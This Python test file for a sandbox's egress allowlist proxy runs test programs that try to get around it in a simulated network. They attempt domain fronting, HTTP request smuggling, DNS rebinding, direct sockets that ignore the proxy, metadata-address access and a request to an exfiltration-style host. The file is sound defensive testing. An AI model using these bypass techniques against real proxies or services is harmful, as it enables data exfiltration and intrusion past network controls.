#!/usr/bin/python3
"""network=allowlist held against hostile programs, in a fake internet made by the test
(fake_internet.py; docs/network.md, "Tested against a fake internet").

Each case is one `psych run --isolation isolated --allow-host ... --json` in the fake internet's
client namespace, of a program that tries one way around the allowlist. A case checks what the
program saw (each attempt's answer, and that it came within a second), the run (completed,
`guarantees.network` enforced, the `egress` meters and refusals), and what the fake servers, the
fake DNS and the client's loopback trap saw: a refused connection reaches no server and an unlisted
name is never resolved.

    tests/egress_allowlist/test_egress_allowlist.py PSYCH [CASE...]

As root (network namespaces, a veth pair, mounts); otherwise every case is skipped, which fails in
CI (CI=true as root cannot skip). Exits non-zero on any failure, 77 when nothing ran but skips, and
ends with "N passed, M failed, K skipped".
"""
import ctypes
import ipaddress
import json
import os
import shutil
import subprocess
import sys
import textwrap
import time
import traceback

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from script_skips import Skipped, ci_requires_every_case, log_skip  # noqa: E402
sys.path.pop(0)

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fake_internet import CLIENT_V4, CLIENT_V6, SUFFIX, FakeInternet  # noqa: E402

PROBE_HOST = "psych-egress-probe.invalid"  # the child's own probe of the proxy, before the program
PROXY_PORT = 3128
API, CDN_OTHER, FILES = f"api.{SUFFIX}", f"cdn-other.{SUFFIX}", f"files.{SUFFIX}"
V6ONLY, REBIND, REBIND6 = f"v6only.{SUFFIX}", f"rebind.{SUFFIX}", f"rebind6.{SUFFIX}"
PRIVATE, METADATA = f"private.{SUFFIX}", f"metadata.{SUFFIX}"
PROMPT = 1.0  # seconds within which a refusal must be answered

# The helpers every program starts with; CA_PEM is replaced by the fake internet's CA. Each attempt
# returns a dict: what came back (status, Proxy-Status, body, or the error's name) and its seconds.
PRELUDE = r'''
import errno, os, socket, ssl, time
CA = """CA_PEM"""
PROXY = ("127.0.0.1", 3128)

def _error(error):
    if isinstance(error, ssl.SSLError):
        return "ssl:" + str(error.reason or error)
    if isinstance(error, socket.timeout):
        return "timeout"
    if isinstance(error, socket.gaierror):
        return "gaierror:" + str(error.errno)
    if isinstance(error, OSError) and error.errno:
        return errno.errorcode.get(error.errno, str(error.errno))
    return type(error).__name__ + ":" + str(error)

def _done(started, **fields):
    fields["seconds"] = round(time.monotonic() - started, 3)
    return fields

def _head(sock):
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 65536:
        chunk = sock.recv(65536)
        if not chunk:
            break
        data += chunk
    return data

def _answer(sock, data, body=True):
    """status, headers and body of the HTTP response whose head begins `data`."""
    head, _, rest = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    parts = lines[0].split()
    status = int(parts[1]) if len(parts) > 1 and parts[1].isdigit() else None
    headers = {}
    for line in lines[1:]:
        name, _, value = line.partition(":")
        headers[name.strip().lower()] = value.strip()
    length = int(headers.get("content-length") or 0) if body else 0
    while len(rest) < length:
        chunk = sock.recv(65536)
        if not chunk:
            break
        rest += chunk
    return status, headers, rest

def _closed_after(sock):
    """After a refusal's answer the proxy ends the connection: the end of stream, at once."""
    started = time.monotonic()
    sock.settimeout(3)
    try:
        what = "closed" if not sock.recv(1) else "more bytes"
    except OSError as error:
        what = _error(error)
    return what if time.monotonic() - started < 1 else "held open (" + what + ")"

def raw_request(data):
    """These bytes, as a request to the proxy: its answer."""
    started = time.monotonic()
    sock = socket.create_connection(PROXY, timeout=5)
    try:
        sock.sendall(data)
        status, headers, body = _answer(sock, _head(sock))
        then = _closed_after(sock)
    except OSError as error:
        return _done(started, error=_error(error))
    finally:
        sock.close()
    return _done(started, status=status, proxy_status=headers.get("proxy-status"), then=then)

def _authority(host, port):
    return "[%s]:%d" % (host, port) if ":" in host else "%s:%d" % (host, port)

def tunnel(host, port):
    """CONNECT host:port through the proxy: (what came back, the open tunnel or None)."""
    started = time.monotonic()
    sock = socket.create_connection(PROXY, timeout=5)
    authority = _authority(host, port)
    try:
        sock.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
        data = _head(sock)
        status, headers, body = _answer(sock, data, body=not data.startswith(b"HTTP/1.1 200"))
    except OSError as error:
        sock.close()
        return _done(started, error=_error(error)), None
    if status == 200:
        return _done(started, status=200), sock
    closed = _closed_after(sock)
    sock.close()
    return _done(started, status=status, proxy_status=headers.get("proxy-status"), then=closed), None

def connect(host, port):
    outcome, sock = tunnel(host, port)
    if sock:
        sock.close()
    return outcome

def get_plain(url, host=None):
    """GET url (absolute-form) through the proxy, with this Host header (default: the URL's)."""
    started = time.monotonic()
    authority = url.split("/")[2]
    sock = socket.create_connection(PROXY, timeout=5)
    try:
        sock.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % (url, host or authority)).encode())
        status, headers, body = _answer(sock, _head(sock))
        then = _closed_after(sock)
    except OSError as error:
        return _done(started, error=_error(error))
    finally:
        sock.close()
    return _done(started, status=status, proxy_status=headers.get("proxy-status"), body=body.decode("latin-1"),
                 then=then)

SAME = object()

def get_tls(host, port=443, server_name=SAME, host_header=None, path="/", first_bytes=None):
    """CONNECT host:port, TLS inside with this server name (None: no SNI), GET path."""
    started = time.monotonic()
    outcome, sock = tunnel(host, port)
    if sock is None:
        return outcome
    if first_bytes is not None:
        sock.sendall(first_bytes)
        then = _closed_after(sock)
        sock.close()
        return _done(started, tunnel=200, then=then)
    context = ssl.create_default_context(cadata=CA)
    name = host if server_name is SAME else server_name
    if name is None:
        context.check_hostname = False
    try:
        tls = context.wrap_socket(sock, server_hostname=name)
        tls.sendall(("GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                     % (path, host_header or name or host)).encode())
        status, headers, body = _answer(tls, _head(tls))
        tls.close()
    except (OSError, ssl.SSLError) as error:
        sock.close()
        return _done(started, tunnel=200, error=_error(error))
    return _done(started, tunnel=200, status=status, body=body.decode("latin-1"))

def direct(host, port):
    """A TCP connection to host:port that ignores the proxy."""
    started = time.monotonic()
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
    sock.settimeout(3)
    try:
        sock.connect((host, port))
        result = "connected"
    except OSError as error:
        result = _error(error)
    finally:
        sock.close()
    return _done(started, result=result)

def dns_query(server, name):
    """One A query over UDP, straight to a DNS server."""
    started = time.monotonic()
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    query += b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\x00\x00\x01\x00\x01"
    sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(2)
    try:
        sock.sendto(query, (server, 53))
        sock.recvfrom(512)
        result = "answered"
    except OSError as error:
        result = _error(error)
    finally:
        sock.close()
    return _done(started, result=result)
'''


def landlock_abi():
    """The kernel's Landlock ABI (0: none). From ABI 4 the sandbox's TCP connects are held to the
    proxy's port by Landlock too, which answers EACCES before routing is asked."""
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    landlock_create_ruleset, version_flag = 444, 1
    abi = libc.syscall(landlock_create_ruleset, None, ctypes.c_size_t(0), ctypes.c_uint32(version_flag))
    return max(abi, 0)


class Run:
    """One psych run of a program in the fake internet, and what the fake internet saw meanwhile."""

    def __init__(self, net, psych, allowed, body, wall_seconds=20):
        program = PRELUDE.replace("CA_PEM", net.ca_pem) + textwrap.dedent(body)
        path = os.path.join(net.dir, f"program-{time.monotonic_ns()}.py")
        with open(path, "w", encoding="utf-8") as out:
            out.write(program)
        argv = [psych, "run", "--isolation", "isolated", "--json", "--no-stream", "--wall-seconds", str(wall_seconds)]
        for pattern in allowed:
            argv += ["--allow-host", pattern]
        self.allowed = allowed
        mark = net.mark()
        env = {k: v for k, v in os.environ.items() if not k.lower().endswith("_proxy")}
        self.process = net.run([*argv, path], env=env, timeout=wall_seconds + 30)
        self.seen = net.seen(mark)
        os.unlink(path)
        try:
            self.result = json.loads(self.process.stdout)
        except ValueError:
            raise AssertionError(f"psych run printed no JSON (exit {self.process.returncode}):\n"
                                 f"stdout: {self.process.stdout[-2000:]}\nstderr: {self.process.stderr[-2000:]}")
        self.value = self.result.get("value")
        self.egress = self.result.get("egress") or {}

    def describe(self):
        shown = {k: self.result.get(k) for k in ("value", "guarantees", "problems", "egress", "failure")}
        shown["stderr"] = (self.result.get("stderr") or {})
        return json.dumps(shown, indent=1, default=str)[:6000]

    def check(self, condition, what):
        if not condition:
            raise AssertionError(f"{what}\nthe run: {self.describe()}\nthe fake internet saw: "
                                 f"{json.dumps(self.seen)[:3000]}")

    def completed(self):
        """The program ran to its end, with the network enforced and nothing unseen."""
        self.check(self.process.returncode == 0, f"psych run exited {self.process.returncode}: "
                                                 f"{self.process.stderr[-1500:]}")
        self.check(self.result.get("failure") in (None, {}), "the program failed")
        self.check((self.result.get("guarantees") or {}).get("network") == "enforced",
                   "guarantees.network is not enforced")
        self.check(not [p for p in self.result.get("problems") or [] if "network" in json.dumps(p).lower()
                        or "egress" in json.dumps(p).lower()], "a problem about the network")
        self.check(isinstance(self.value, dict), "the program's value is not its dict of outcomes")
        self.never_resolved_unlisted()
        self.every_peer_is_the_client()
        return self.value

    def program_refusals(self):
        """egress.refusals as (host, port, reason). The meters are the program's: the child's own
        probe of the proxy, made before the program starts, is not among them."""
        return [(r["host"], r["port"], r["reason"]) for r in self.egress.get("refusals", [])]

    def refused_exactly(self, expected):
        """The program's refusals, in order, and the meters that count them."""
        self.check(self.program_refusals() == expected, f"egress.refusals: expected {expected}")
        self.check(self.egress.get("connections_refused") == len(expected),
                   f"egress.connections_refused is not {len(expected)}")
        self.check(self.egress.get("refusals_omitted") == 0, "egress.refusals_omitted is not 0")
        for refusal in self.egress.get("refusals", []):
            self.check(refusal.get("detail"), f"a refusal without its detail: {refusal}")

    def events(self, *who):
        return [e for e in self.seen if e["who"] in who]

    def servers_saw_nothing(self):
        """No HTTP or HTTPS server and no loopback trap saw a connection."""
        self.check(self.events("http", "https", "trap") == [], "a server saw a connection")

    def never_resolved_unlisted(self):
        """The proxy asks the DNS only about names the allowlist lists: an unlisted name leaks nowhere."""
        listed = {p.split(":")[0].lower() for p in self.allowed if not p.startswith("[")}
        asked = {e["name"] for e in self.events("dns")}
        self.check(asked <= listed, f"the DNS was asked about unlisted names: {sorted(asked - listed)}")

    def every_peer_is_the_client(self):
        """Whatever reached the internet came from the client namespace (the proxy), never elsewhere."""
        peers = {e["peer"] for e in self.events("http", "https", "dns")}
        self.check(peers <= {CLIENT_V4, CLIENT_V6}, f"peers other than the client: {peers}")


def prompt(run, outcome, what):
    run.check(outcome.get("seconds", 99) < PROMPT, f"{what} took {outcome.get('seconds')} s (over {PROMPT} s)")


def refused(run, outcome, status, error, what):
    """An explicit refusal: this status, this RFC 9209 error type, the connection closed, in time."""
    run.check(outcome.get("status") == status, f"{what}: expected {status}, got {outcome}")
    run.check(f"error={error}" in (outcome.get("proxy_status") or ""),
              f"{what}: expected Proxy-Status error={error}, got {outcome}")
    run.check(outcome.get("then") == "closed", f"{what}: the connection after the answer: {outcome.get('then')}")
    prompt(run, outcome, what)


# -- the cases --------------------------------------------------------------------------------------


def test_listed_name_is_fetched_over_https_and_http(net, psych):
    run = Run(net, psych, [API], f"""
        import urllib.request
        context = ssl.create_default_context(cadata=CA)
        proxies = {{k: os.environ.get(k) for k in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy",
                                                 "https_proxy", "all_proxy", "NO_PROXY", "no_proxy")}}
        https = urllib.request.urlopen("https://{API}/", context=context, timeout=5).read().decode()
        plain = urllib.request.urlopen("http://{API}/plain?x=1", timeout=5).read().decode()
        sized = len(urllib.request.urlopen("https://{API}/bytes/100000", context=context, timeout=5).read())
        {{"proxies": proxies, "https": https, "plain": plain, "sized": sized}}
    """)
    value = run.completed()
    url = f"http://127.0.0.1:{PROXY_PORT}"
    run.check(value["proxies"] == {"HTTP_PROXY": url, "HTTPS_PROXY": url, "ALL_PROXY": url, "http_proxy": url,
                                   "https_proxy": url, "all_proxy": url, "NO_PROXY": "", "no_proxy": ""},
              f"the program's proxy environment: {value['proxies']}")
    run.check(value["https"] == f"fake-internet https host={API} sni={API} path=/\n", f"https: {value['https']!r}")
    run.check(value["plain"] == f"fake-internet http host={API} sni=- path=/plain?x=1\n", f"plain: {value['plain']!r}")
    run.check(value["sized"] == 100000, f"/bytes/100000 gave {value['sized']} bytes")
    run.check(run.egress.get("connections_allowed") == 3, "egress.connections_allowed is not 3")
    run.refused_exactly([])
    run.check(run.egress.get("connections_cut") == 0, "a connection was cut")
    received, sent = run.egress.get("bytes_received", 0), run.egress.get("bytes_sent", 0)
    run.check(100000 < received < 100000 + 20000, f"egress.bytes_received {received}: 100000 and TLS expected")
    run.check(0 < sent < 10000, f"egress.bytes_sent {sent}")
    requests = [(e["who"], e["host"], e["path"]) for e in run.events("http", "https") if e["event"] == "request"]
    run.check(requests == [("https", API, "/"), ("http", API, "/plain?x=1"), ("https", API, "/bytes/100000")],
              f"the servers' requests: {requests}")
    # Three connections, one resolution: the proxy reuses a name's answer (src/host/egress/name_cache.hpp).
    questions = sorted((e["name"], e["type"]) for e in run.events("dns"))
    run.check(questions == [(API, "A"), (API, "AAAA")], f"the DNS was asked {questions}: one resolution expected")
    return f"allowed {run.egress['connections_allowed']}, sent {sent} B, received {received} B, resolved once"


def test_listed_v6only_name_is_reached_over_ipv6(net, psych):
    run = Run(net, psych, [V6ONLY], f"""
        {{"https": get_tls("{V6ONLY}", path="/six"), "plain": get_plain("http://{V6ONLY}/six")}}
    """)
    value = run.completed()
    run.check(value["https"].get("body") == f"fake-internet https host={V6ONLY} sni={V6ONLY} path=/six\n",
              f"https: {value['https']}")
    run.check(value["plain"].get("body") == f"fake-internet http host={V6ONLY} sni=- path=/six\n",
              f"plain: {value['plain']}")
    reached = {(e["who"], e["peer"], e["local"]) for e in run.events("http", "https") if e["event"] == "request"}
    run.check(reached == {("https", CLIENT_V6, "2001:db8::30"), ("http", CLIENT_V6, "2001:db8::30")},
              f"the servers were reached as {reached}")
    run.check(run.egress.get("connections_allowed") == 2, "egress.connections_allowed is not 2")
    run.refused_exactly([])


def test_plain_http_to_unlisted_name_is_refused(net, psych):
    run = Run(net, psych, [API], f"""
        import urllib.request, urllib.error
        raw = get_plain("http://{FILES}/unlisted-plain")
        started = time.monotonic()
        try:
            urllib.request.urlopen("http://{FILES}/unlisted-urllib", timeout=5)
            by_urllib = _done(started, status=200)
        except urllib.error.HTTPError as error:
            by_urllib = _done(started, status=error.code, proxy_status=error.headers.get("Proxy-Status"),
                              then="closed")
        secret = get_plain("http://exfil-c2vjcmv0.{SUFFIX}/")
        {{"raw": raw, "urllib": by_urllib, "secret": secret}}
    """)
    value = run.completed()
    refused(run, value["raw"], 403, "http_request_denied", "GET http://files/ unlisted")
    refused(run, value["urllib"], 403, "http_request_denied", "urllib GET http://files/ unlisted")
    refused(run, value["secret"], 403, "http_request_denied", "GET http://exfil-.../ unlisted")
    run.servers_saw_nothing()
    run.refused_exactly([(FILES, 80, "http_request_denied"), (FILES, 80, "http_request_denied"),
                         (f"exfil-c2vjcmv0.{SUFFIX}", 80, "http_request_denied")])
    run.check(run.egress.get("connections_allowed") == 0, "a connection was allowed")


def test_connect_to_unlisted_name_or_port_is_refused(net, psych):
    run = Run(net, psych, [API], f"""
        import urllib.request, urllib.error
        started = time.monotonic()
        try:
            urllib.request.urlopen("https://{FILES}/unlisted", context=ssl.create_default_context(cadata=CA),
                                   timeout=5)
            by_urllib = _done(started, error="fetched")
        except (urllib.error.URLError, OSError) as error:
            by_urllib = _done(started, error=str(getattr(error, "reason", error)))
        {{"files": connect("{FILES}", 443), "urllib": by_urllib, "ssh": connect("{API}", 22),
          "alt": connect("{API}", 8443), "secret": connect("exfil-c2vjcmv0.{SUFFIX}", 443),
          "probe_host": connect("{PROBE_HOST}", 443)}}
    """)
    value = run.completed()
    refused(run, value["files"], 403, "http_request_denied", "CONNECT files:443 unlisted")
    refused(run, value["ssh"], 403, "http_request_denied", "CONNECT api:22 (no port listed)")
    refused(run, value["alt"], 403, "http_request_denied", "CONNECT api:8443 (no port listed)")
    refused(run, value["secret"], 403, "http_request_denied", "CONNECT exfil-...:443 unlisted")
    refused(run, value["probe_host"], 403, "http_request_denied", "CONNECT to the child's probe's own host")
    run.check("403" in value["urllib"].get("error", ""), f"urllib https://files/: {value['urllib']}")
    prompt(run, value["urllib"], "urllib https://files/")
    run.servers_saw_nothing()
    run.refused_exactly([(FILES, 443, "http_request_denied"), (FILES, 443, "http_request_denied"),
                         (API, 22, "http_request_denied"), (API, 8443, "http_request_denied"),
                         (f"exfil-c2vjcmv0.{SUFFIX}", 443, "http_request_denied"),
                         (PROBE_HOST, 443, "http_request_denied")])


def test_a_program_that_ignores_the_proxy_reaches_nothing(net, psych):
    run = Run(net, psych, [API], f"""
        import urllib.request
        for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
            os.environ.pop(name, None)
        os.environ["NO_PROXY"] = os.environ["no_proxy"] = "*"
        started = time.monotonic()
        try:
            urllib.request.urlopen("https://198.51.100.10/bypass-urllib", timeout=3,
                                   context=ssl.create_default_context(cadata=CA))
            by_urllib = _done(started, result="fetched")
        except Exception as error:
            by_urllib = _done(started, result=_error(getattr(error, "reason", error)))
        started = time.monotonic()
        try:
            socket.getaddrinfo("bypass-probe-gai.{SUFFIX}", 443)
            resolved = _done(started, result="resolved")
        except OSError as error:
            resolved = _done(started, result=_error(error))
        outside = {{}}
        for host, port in (("198.51.100.10", 443), ("2001:db8::10", 443), ("198.51.100.10", 80),
                           ("198.51.100.53", 53), ("2001:db8::53", 53), ("198.51.100.10", 3128),
                           ("2001:db8::10", 3128), ("10.0.0.5", 443), ("169.254.169.254", 80)):
            outside[_authority(host, port)] = direct(host, port)
        loopback = {{}}
        for host in ("127.0.0.1", "::1"):
            for port in (22, 53, 80, 443, 3128, 8080):
                loopback[_authority(host, port)] = direct(host, port)["result"]
        dns = {{"v4": dns_query("198.51.100.53", "bypass-probe-udp.{SUFFIX}"),
                "v6": dns_query("2001:db8::53", "bypass-probe-udp6.{SUFFIX}")}}
        {{"urllib": by_urllib, "getaddrinfo": resolved, "outside": outside, "loopback": loopback, "dns": dns}}
    """)
    value = run.completed()
    # From Landlock ABI 4 a TCP connect to any port but the proxy's is EACCES before routing; the
    # proxy's port (3128) on an outside address shows the namespace's own answer: no route.
    tcp_denied = "EACCES" if landlock_abi() >= 4 else "ENETUNREACH"
    for target, outcome in value["outside"].items():
        expected = "ENETUNREACH" if target.endswith(":3128") else tcp_denied
        run.check(outcome["result"] == expected, f"direct {target}: {outcome['result']}, expected {expected}")
        prompt(run, outcome, f"direct {target}")
    run.check(value["urllib"]["result"] == tcp_denied, f"urllib without proxy: {value['urllib']}, expected {tcp_denied}")
    prompt(run, value["urllib"], "urllib without proxy")
    run.check(value["getaddrinfo"]["result"].startswith("gaierror:"), f"getaddrinfo: {value['getaddrinfo']}")
    prompt(run, value["getaddrinfo"], "getaddrinfo in the sandbox")
    for family, outcome in value["dns"].items():
        run.check(outcome["result"] == "ENETUNREACH", f"UDP DNS ({family}) straight to the server: {outcome}")
        prompt(run, outcome, f"UDP DNS ({family})")
    loopback_refused = "EACCES" if landlock_abi() >= 4 else "ECONNREFUSED"
    expected_loopback = {t: ("connected" if t.endswith(":3128") else loopback_refused) for t in value["loopback"]}
    run.check(value["loopback"] == expected_loopback, f"loopback: {value['loopback']}, expected {expected_loopback}")
    run.servers_saw_nothing()
    run.check(not [e for e in run.events("dns") if e["name"].startswith("bypass-probe")],
              "the DNS server saw a query the program sent itself")
    run.refused_exactly([])
    run.check(run.egress.get("connections_allowed") == 0, "a connection was allowed")
    # The connects to its own 3128 reached the proxy and said nothing: neither allowed nor refused.
    return "outside: " + ", ".join(sorted({o["result"] for o in value["outside"].values()})) + \
        f"; UDP DNS: {value['dns']['v4']['result']}; getaddrinfo: {value['getaddrinfo']['result']}"


def test_a_cdn_neighbour_and_the_shared_address_are_refused(net, psych):
    run = Run(net, psych, [API], f"""
        {{"connect_other": connect("{CDN_OTHER}", 443), "plain_other": get_plain("http://{CDN_OTHER}/cdn"),
          "connect_ip": connect("198.51.100.10", 443), "plain_ip": get_plain("http://198.51.100.10/cdn"),
          "connect_ip6": connect("2001:db8::10", 443)}}
    """)
    value = run.completed()
    for key, what in (("connect_other", "CONNECT cdn-other:443"), ("plain_other", "GET http://cdn-other/"),
                      ("connect_ip", "CONNECT 198.51.100.10:443"), ("plain_ip", "GET http://198.51.100.10/"),
                      ("connect_ip6", "CONNECT [2001:db8::10]:443")):
        refused(run, value[key], 403, "http_request_denied", what)
    run.servers_saw_nothing()
    run.refused_exactly([(CDN_OTHER, 443, "http_request_denied"), (CDN_OTHER, 80, "http_request_denied"),
                         ("198.51.100.10", 443, "http_request_denied"), ("198.51.100.10", 80, "http_request_denied"),
                         ("2001:db8::10", 443, "http_request_denied")])


def test_domain_fronting_is_refused(net, psych):
    run = Run(net, psych, [API], f"""
        {{"sni_other": get_tls("{API}", server_name="{CDN_OTHER}"),
          "no_sni": get_tls("{API}", server_name=None),
          "host_other": get_plain("http://{API}/front", host="{CDN_OTHER}"),
          "not_tls": get_tls("{API}", first_bytes=b"GET / HTTP/1.1\\r\\nHost: {CDN_OTHER}\\r\\n\\r\\n")}}
    """)
    value = run.completed()
    for key, what in (("sni_other", "SNI cdn-other in a CONNECT to api"), ("no_sni", "no SNI to api")):
        outcome = value[key]
        run.check(outcome.get("tunnel") == 200 and outcome.get("error") == "ssl:TLSV1_ALERT_ACCESS_DENIED",
                  f"{what}: expected the tunnel's 200, then the alert access_denied; got {outcome}")
        prompt(run, outcome, what)
    refused(run, value["host_other"], 403, "http_request_denied", "GET http://api/ with Host: cdn-other")
    run.check(value["not_tls"].get("then") == "closed", f"plain bytes in a tunnel to 443: {value['not_tls']}")
    prompt(run, value["not_tls"], "plain bytes in a tunnel to 443")
    # The proxy connects before its 200; the server then sees the connection end before any byte.
    https = run.events("https")
    run.check(all(e["event"] in ("accept", "closed_before_any_byte") for e in https),
              f"the HTTPS server saw a handshake: {https}")
    run.check(run.events("http", "trap") == [], "a plain request reached a server")
    # A head refused before its destination is read names what the program sent: the request target.
    run.refused_exactly([(API, 443, "http_request_denied"), (API, 443, "http_request_denied"),
                         (API, 0, "http_request_denied"), (API, 443, "tls_protocol_error")])
    run.check(run.egress.get("connections_allowed") == 0, "a fronted connection was counted as allowed")


def test_fronting_inside_tls_is_the_destinations_to_refuse(net, psych):
    """The boundary of what a proxy can see: with the right SNI, the Host header inside TLS is
    encrypted, and a CDN that routes by it serves its neighbour (docs/network.md says so)."""
    run = Run(net, psych, [API], f"""
        {{"inner_host": get_tls("{API}", host_header="{CDN_OTHER}", path="/inner")}}
    """)
    value = run.completed()
    run.check(value["inner_host"].get("body") == f"fake-internet https host={CDN_OTHER} sni={API} path=/inner\n",
              f"SNI api, Host cdn-other inside TLS: {value['inner_host']}")
    run.check(run.egress.get("connections_allowed") == 1, "egress.connections_allowed is not 1")
    run.refused_exactly([])


def test_request_tricks_reach_no_other_host(net, psych):
    """What URL parsers disagree on, and a second request riding on an allowed one."""
    run = Run(net, psych, [API], f"""
        {{"userinfo": get_plain("http://{API}@{CDN_OTHER}/userinfo", host="{API}"),
          "pipelined": raw_request(b"GET http://{API}/first HTTP/1.1\\r\\nHost: {API}\\r\\n\\r\\n"
                                   b"GET http://{CDN_OTHER}/second HTTP/1.1\\r\\nHost: {CDN_OTHER}\\r\\n\\r\\n"),
          "smuggled": raw_request(b"GET http://{API}/smuggle HTTP/1.1\\r\\nHost: {API}\\r\\nContent-Length: 56\\r\\n"
                                  b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n"
                                  b"GET /inner HTTP/1.1\\r\\nHost: {CDN_OTHER}\\r\\n\\r\\n"),
          "connect_userinfo": connect("{API}@{CDN_OTHER}", 443),
          "decimal_address": connect("3325256714", 443),
          "encoded_dot": get_plain("http://cdn-other%2e{SUFFIX}/"),
          "origin_form": raw_request(b"GET /origin HTTP/1.1\\r\\nHost: {CDN_OTHER}\\r\\n\\r\\n")}}
    """)
    value = run.completed()
    for key in ("userinfo", "smuggled", "connect_userinfo", "decimal_address", "encoded_dot", "origin_form"):
        refused(run, value[key], 400, "http_request_error", key)
    run.check(value["pipelined"].get("status") == 200 and value["pipelined"].get("then") == "closed",
              f"two requests on one plain connection: {value['pipelined']}")
    requests = [(e["host"], e["path"]) for e in run.events("http", "https") if e["event"] == "request"]
    run.check(requests == [(API, "/first")], f"the servers' requests: {requests}")
    run.check(run.events("trap") == [], "the loopback trap saw a connection")
    run.check(run.egress.get("connections_allowed") == 1, "egress.connections_allowed is not 1")
    # A head refused before its destination is read names the host part of what the program sent
    # (never a URL's path, query or user information), port 0.
    run.refused_exactly([(CDN_OTHER, 0, "http_request_error"),
                         ("", 0, "http_request_error"),
                         (f"{CDN_OTHER}:443", 0, "http_request_error"),
                         ("3325256714:443", 0, "http_request_error"),
                         (f"cdn-other%2e{SUFFIX}", 0, "http_request_error"),
                         ("", 0, "http_request_error")])


def test_refusals_are_explicit_and_at_once(net, psych):
    run = Run(net, psych, [API, f"{FILES}:81", f"nxdomain.{SUFFIX}"], f"""
        import http.client
        started = time.monotonic()
        client = http.client.HTTPConnection("127.0.0.1", 3128, timeout=5)
        client.request("GET", "http://{FILES}/via-http-client")
        answer = client.getresponse()
        by_http_client = _done(started, status=answer.status, proxy_status=answer.getheader("Proxy-Status"),
                               body=answer.read().decode(), then="closed")
        client.close()
        {{"http_client": by_http_client, "closed_port": connect("{FILES}", 81),
          "nxdomain": connect("nxdomain.{SUFFIX}", 443), "nxdomain_plain": get_plain("http://nxdomain.{SUFFIX}/"),
          "not_http": raw_request(b"\\x16\\x03\\x01\\x00\\x05hello\\r\\n\\r\\n")}}
    """)
    value = run.completed()
    refused(run, value["http_client"], 403, "http_request_denied", "http.client GET http://files/ unlisted")
    run.check(value["http_client"].get("body", "").startswith("psych egress: refused: "),
              f"the refusal's body: {value['http_client']}")
    refused(run, value["closed_port"], 502, "connection_refused", "CONNECT files:81 (listed, nothing listens)")
    refused(run, value["nxdomain"], 502, "dns_error", "CONNECT nxdomain:443 (listed, no such name)")
    refused(run, value["nxdomain_plain"], 502, "dns_error", "GET http://nxdomain/ (listed, no such name)")
    refused(run, value["not_http"], 400, "http_request_error", "bytes that are no HTTP request")
    run.check(run.events("http", "trap") == [] and all(e["event"] != "request" for e in run.events("https")),
              "a server saw a request")
    run.refused_exactly([(FILES, 80, "http_request_denied"), (FILES, 81, "connection_refused"),
                         (f"nxdomain.{SUFFIX}", 443, "dns_error"), (f"nxdomain.{SUFFIX}", 80, "dns_error"),
                         ("", 0, "http_request_error")])
    return "seconds: " + ", ".join(f"{k} {v['seconds']}" for k, v in value.items())


def test_dns_rebinding_to_loopback_is_refused(net, psych):
    run = Run(net, psych, [REBIND, REBIND6], f"""
        {{"connect": connect("{REBIND}", 443), "plain": get_plain("http://{REBIND}/"),
          "connect6": connect("{REBIND6}", 443), "plain6": get_plain("http://{REBIND6}/")}}
    """)
    value = run.completed()
    for key in value:
        refused(run, value[key], 403, "destination_ip_prohibited", f"{key} to a name that resolves to loopback")
    run.servers_saw_nothing()
    run.refused_exactly([(REBIND, 443, "destination_ip_prohibited"), (REBIND, 80, "destination_ip_prohibited"),
                         (REBIND6, 443, "destination_ip_prohibited"), (REBIND6, 80, "destination_ip_prohibited")])


def test_unlisted_ipv6_literal_is_refused(net, psych):
    run = Run(net, psych, [API, "198.51.100.20"], """
        {"connect": connect("2001:db8::10", 443), "plain": get_plain("http://[2001:db8::10]/"),
         "connect_other": connect("2001:db8::20", 443), "mapped": connect("::ffff:198.51.100.20", 443)}
    """)
    value = run.completed()
    for key in value:
        refused(run, value[key], 403, "http_request_denied", f"{key}: an unlisted IPv6 literal")
    run.servers_saw_nothing()
    mapped = run.program_refusals()[3:]
    run.check(len(mapped) == 1 and ipaddress.ip_address(mapped[0][0]) == ipaddress.ip_address("::ffff:198.51.100.20")
              and mapped[0][1:] == (443, "http_request_denied"), f"the IPv4-mapped literal's refusal: {mapped}")
    run.refused_exactly([("2001:db8::10", 443, "http_request_denied"), ("2001:db8::10", 80, "http_request_denied"),
                         ("2001:db8::20", 443, "http_request_denied"), mapped[0]])


def test_listed_ip_literals_are_reached(net, psych):
    """The counterpart of the refusals above: a literal the allowlist names is reached, a link-local
    one too (so the metadata service, which the fake internet serves, would have answered)."""
    run = Run(net, psych, ["[2001:db8::20]", "169.254.169.254"], """
        {"v6": get_tls("2001:db8::20", server_name=None, path="/literal"),
         "metadata": get_plain("http://169.254.169.254/latest/meta-data/")}
    """)
    value = run.completed()
    run.check(value["v6"].get("body") == "fake-internet https host=2001:db8::20 sni=- path=/literal\n",
              f"https to [2001:db8::20]: {value['v6']}")
    run.check(value["metadata"].get("body") == "fake-internet http host=169.254.169.254 sni=- "
                                               "path=/latest/meta-data/\n", f"metadata: {value['metadata']}")
    run.check(run.egress.get("connections_allowed") == 2, "egress.connections_allowed is not 2")
    run.refused_exactly([])


def test_the_proxys_own_address_is_refused(net, psych):
    body = """
        {"v4": connect("127.0.0.1", 3128), "v6": connect("::1", 3128), "name": connect("localhost", 3128),
         "plain": get_plain("http://127.0.0.1:3128/")}
    """
    unlisted = Run(net, psych, [API], body)
    value = unlisted.completed()
    for key in value:
        refused(unlisted, value[key], 403, "http_request_denied", f"{key}: the proxy's address, unlisted")
    unlisted.servers_saw_nothing()
